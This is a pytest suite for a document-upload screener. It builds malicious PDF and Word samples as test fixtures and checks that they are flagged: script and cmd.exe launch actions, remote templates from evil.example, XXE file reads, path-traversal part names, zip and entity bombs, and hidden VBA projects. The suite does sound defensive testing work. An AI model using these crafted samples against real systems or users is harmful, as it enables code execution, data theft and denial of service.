"""Documents that would harm their reader: macros, bombs, entities, lies about sizes; files that are none."""

import io
import time
import zipfile
import zlib

import pypdf
import pytest
from PIL import Image
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.submissions.media.conftest import PAPER, facts_of, judge, judged
from tests.submissions.media.papers import SLIDES, added, ole, word


def test_pdf_that_runs_a_script_warns(tmp_path):
    plain = tmp_path / "plain.pdf"
    Image.effect_noise((100, 100), 50).save(plain, "PDF")
    writer = pypdf.PdfWriter(plain)
    writer.add_open_action(JavaScript("app.alert(1)"))
    writer.write(tmp_path / "script.pdf")
    assert judged(tmp_path / "script.pdf", SLIDES) == [("macro", "warn")]


LAUNCH = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
SCRIPT = DictionaryObject(
    {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.beep()")}
)
FETCH = DictionaryObject(
    {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("http://a.example")}
)
TURN = DictionaryObject({NameObject("/S"): NameObject("/Named"), NameObject("/N"): NameObject("/NextPage")})


def on(event, action):
    return DictionaryObject({NameObject("/AA"): DictionaryObject({NameObject(event): action})})


def button(action):
    values = {"/Subtype": NameObject("/Link"), "/Rect": ArrayObject([NumberObject(0)] * 4), "/A": action}
    mark = DictionaryObject({NameObject(name): value for name, value in values.items()})
    return DictionaryObject({NameObject("/Annots"): ArrayObject([mark])})


def then(action):
    return DictionaryObject(TURN | {NameObject("/Next"): ArrayObject([action])})


@pytest.mark.parametrize(
    ("place", "change", "found"),
    [
        ("root", on("/WC", SCRIPT), True),
        ("page", on("/O", SCRIPT), True),
        ("page", on("/O", FETCH), True),
        ("page", on("/O", then(LAUNCH)), True),
        ("page", button(LAUNCH), True),
        ("page", button(SCRIPT), True),
        ("root", {NameObject("/OpenAction"): LAUNCH}, True),
        ("root", {NameObject("/OpenAction"): FETCH}, True),
        ("form", on("/K", SCRIPT), True),
        ("page", button(FETCH), False),  # a link
        ("page", on("/O", TURN), False),
        ("root", {NameObject("/OpenAction"): TURN}, False),
    ],
)
def test_pdf_that_starts_something_warns(tmp_path, place, change, found):
    plain = tmp_path / "plain.pdf"
    Image.effect_noise((100, 100), 50).save(plain, "PDF")
    writer = pypdf.PdfWriter(plain)
    if place == "form":
        field = writer._add_object(DictionaryObject(change))
        form = DictionaryObject({NameObject("/Fields"): ArrayObject([field])})
        change = {NameObject("/AcroForm"): form}
    target = writer.pages[0] if place == "page" else writer.root_object
    target.update(change)
    writer.write(tmp_path / "a.pdf")
    assert judged(tmp_path / "a.pdf", SLIDES) == ([("macro", "warn")] if found else [])


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_relation(path, kind, target, mode="External"):
    relation = f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    content = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}'
    return added(word(path), "word/_rels/settings.xml.rels", content + "</Relationships>")


@pytest.mark.parametrize(
    ("kind", "target", "verdict"),
    [
        ("attachedTemplate", "https://evil.example/a.dotm", [("macro", "block")]),
        ("attachedTemplate", r"\\server\share\a.dotm", [("macro", "block")]),
        ("attachedTemplate", "file://server/share/a.dotm", [("macro", "block")]),
        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html", [("macro", "block")]),
        ("frame", "http://evil.example/", [("macro", "block")]),
        ("image", "http://evil.example/pixel.png", [("macro", "warn")]),
        ("attachedTemplate", "file:///C:/Users/wang/Templates/Normal.dotm", []),
        ("attachedTemplate", "Normal.dotm", []),
        ("hyperlink", "https://www.fjzgh.org/", []),
    ],
)
def test_what_a_document_loads_from_elsewhere_is_marked(tmp_path, kind, target, verdict):
    assert judged(with_relation(tmp_path / "a.docx", kind, target), PAPER) == verdict


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("padding", [0, 5_000, 80_000])
def test_document_type_in_any_part_blocks(tmp_path, encoding, padding):
    comment = f"<!--{'x' * padding}-->"
    declared = f'<?xml version="1.0" encoding="{encoding}"?>{comment}<!DOCTYPE a [<!ENTITY b "bb">]><a/>'
    path = added(word(tmp_path / "a.docx"), "customXml/item1.xml", declared.encode(encoding))
    assert judged(path, PAPER) == [("macro", "block")]


@pytest.mark.parametrize(
    "name", ["../../evil.sh", "word/../../evil.sh", r"..\evil.bat", "/etc/cron.d/evil", "C:/evil.bat"]
)
def test_part_name_that_leads_out_of_its_folder_blocks(tmp_path, name):
    assert judged(added(word(tmp_path / "a.docx"), name, b"x"), PAPER) == [("integrity", "block")]


VBA = b"application/vnd.ms-office.vbaProject"
MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def with_types(path, old, new):
    """A Word file whose list of content types was changed."""
    with zipfile.ZipFile(word(path.with_suffix(".plain"))) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            target.writestr(name, content.replace(old, new) if name == "[Content_Types].xml" else content)
    return path


def test_macros_block_under_any_name(tmp_path):
    by_name = added(word(tmp_path / "a.docx"), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    by_relation = with_relation(tmp_path / "b.docx", "vbaProject", "notes.dat", mode="Internal")
    added(by_relation, "word/notes.dat", b"\xd0\xcf\x11\xe0")
    by_content = added(
        word(tmp_path / "c.docx"), "word/embeddings/oleObject1.bin", ole(tmp_path / "x", "VBA").read_bytes()
    )
    for path in (by_name, by_relation, by_content):
        assert judged(path, PAPER) == [("macro", "block")]


def test_declared_macros_that_are_not_there_do_not_block(tmp_path):
    """WPS names a kind for .bin in files that have none; a .docm renamed may have had its macros removed."""
    default = with_types(
        tmp_path / "a.docx", b"<Default ", b'<Default Extension="bin" ContentType="' + VBA + b'"/><Default '
    )
    added(default, "word/printerSettings1.bin", b"paper")
    leads_nowhere = with_relation(tmp_path / "b.docx", "vbaProject", "vbaProject.bin", mode="Internal")
    renamed = with_types(tmp_path / "c.docx", MAIN, b"application/vnd.ms-word.document.macroEnabled.main+xml")
    assert [judged(path, PAPER) for path in (default, leads_nowhere)] == [[], []]
    assert (facts_of(renamed).container, judged(renamed, PAPER)) == ("docx", [("macro", "warn")])


def test_bombs_are_refused_from_the_directory(tmp_path):
    big = word(tmp_path / "big.docx")
    with zipfile.ZipFile(big, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/media/x.bin", "w") as part:
        for _ in range(201):
            part.write(bytes(1 << 20))
    many = word(tmp_path / "many.docx")
    with zipfile.ZipFile(many, "a") as archive:
        for number in range(5001):
            archive.writestr(f"word/{number}", b"")
    tight = added(word(tmp_path / "tight.docx"), "word/media/x.bin", bytes(20 << 20))
    reasons = []
    for path in (big, many, tight):
        [found] = judge(path, PAPER)
        assert (found.code, found.level) == ("archive_bomb", "block")
        reasons.append(found.seen["reason"])
    assert reasons == ["too_large", "too_many_parts", "ratio"]


def test_directory_that_lies_about_sizes_is_damage(tmp_path, altered):
    path = added(word(tmp_path / "a.docx"), "word/footnotes.xml", b"<a>" + b"x" * 500_000 + b"</a>")

    def lie(data):
        for at in (data.rindex(b"word/footnotes.xml") - 46, data.index(b"word/footnotes.xml") - 30):
            offset = 24 if data[at : at + 4] == b"PK\x01\x02" else 22
            data[at + offset : at + offset + 4] = (10).to_bytes(4, "little")

    assert judged(altered(path, lie), PAPER) == [("integrity", "block")]


def with_text_part(path, content):
    """A Word file whose main part is this XML."""
    with zipfile.ZipFile(word(path.with_suffix(".plain"))) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            target.writestr(name, content if name == "word/document.xml" else source.read(name))
    return path


def test_entities_and_deep_nesting_in_xml_cannot_hurt(tmp_path):
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY l0 "哈哈">{laughs}]><a><p><t>&l9;</t></p></a>'
    deep = "<a>" * 300_000
    for content in (bomb, deep):
        path = with_text_part(tmp_path / f"{len(content)}.docx", content)
        started = time.monotonic()
        facts = facts_of(path)
        assert (facts.document.han, time.monotonic() - started < 5) == (None, True)


def test_external_entities_are_not_followed(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("泄露")
    content = f'<!DOCTYPE a [<!ENTITY s SYSTEM "file://{secret}">]><a><p><t>甲&s;</t></p></a>'
    path = with_text_part(tmp_path / "a.docx", content)
    assert facts_of(path).document.han == 1  # 甲, and nothing of the secret


def test_pictures_named_docx_and_texts_named_pdf_are_found_out(tmp_path):
    Image.new("RGB", (9, 9)).save(tmp_path / "a.docx", "PNG")
    (tmp_path / "b.pdf").write_text("八闽好网民" * 9)
    for name in ("a.docx", "b.pdf"):
        assert judged(tmp_path / name, PAPER) == [("extension_mismatch", "block")]


def test_old_word_file_with_macros_blocks(tmp_path):
    assert ("macro", "block") in judged(ole(tmp_path / "a.doc", "WordDocument", "_VBA_PROJECT"), PAPER)


def test_pdf_stream_bomb_cannot_hurt(tmp_path):
    squeezed = zlib.compressobj(1)
    bomb = b"".join(squeezed.compress(b" " * (1 << 20)) for _ in range(1500)) + squeezed.flush()
    out = io.BytesIO()
    out.write(
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    )
    out.write(b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n")
    out.write(b"4 0 obj<</Filter/FlateDecode/Length %d>>stream\n" % len(bomb) + bomb + b"\nendstream endobj\n")
    out.write(b"trailer<</Root 1 0 R>>\n%%EOF")
    path = tmp_path / "bomb.pdf"
    path.write_bytes(out.getvalue())
    assert judged(path, PAPER) in ([("integrity", "block")], [("text_unreadable", "warn")])


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml"])
def test_damage_inside_any_part_of_a_document_blocks(tmp_path, altered, part):
    """The text's own part broke zlib's reader; a style's, which nothing here reads, passed."""
    path = word(tmp_path / "a.docx")
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(part)
    begin = info.header_offset + 30 + len(part)

    def overwrite(data):
        damaged = bytearray(data)
        damaged[begin : begin + 20] = b"\xff" * 20
        return bytes(damaged)

    facts = facts_of(altered(path, overwrite))
    assert (facts.container, [problem.reason for problem in facts.problems]) == ("docx", ["damaged"])
